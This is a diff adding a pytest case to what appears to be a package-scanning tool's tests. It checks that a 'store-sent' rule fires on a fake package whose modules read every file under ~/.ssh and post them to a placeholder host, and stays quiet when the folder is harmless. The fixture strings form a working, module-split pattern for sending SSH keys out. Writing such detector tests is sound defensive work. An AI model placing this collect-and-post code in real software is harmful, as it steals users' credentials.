@@ -369,6 +369,37 @@ def test_what_a_machine_keeps_may_be_told_by_another_module(words: bytes, is_tol
     assert ("store-sent" in {found.rule for found in findings(WHEEL, wheel(files))}) is is_told
 
 
+KEEPS = b"""from pathlib import Path
+
+
+def collect():
+    return {path.name: path.read_text() for path in (Path.home() / %b).glob("*")}
+"""
+POSTS = b"""import requests
+
+SERVICE = "https://n.example.invalid/v1"
+
+
+def send(rows):
+    answer = requests.post(SERVICE, json=rows, timeout=9)
+    answer.raise_for_status()
+    return answer.json()
+"""
+JOINS = b"""from . import acts
+from .core import collect
+
+
+def main():
+    print(acts.send(collect()))
+"""
+
+
+@pytest.mark.parametrize(("folder", "is_told"), [(b'".ssh"', True), (b'"tides"', False)])
+def test_what_a_machine_keeps_may_be_handed_to_another_module_that_sends(folder: bytes, is_told: bool) -> None:
+    files = {"tidetables/core.py": KEEPS % folder, "tidetables/acts.py": POSTS, "tidetables/cli.py": JOINS}
+    assert ("store-sent" in {found.rule for found in findings(WHEEL, wheel(files))}) is is_told
+
+
 TIMED = b"""import functools, json, threading
 from http.client import HTTPSConnection
 
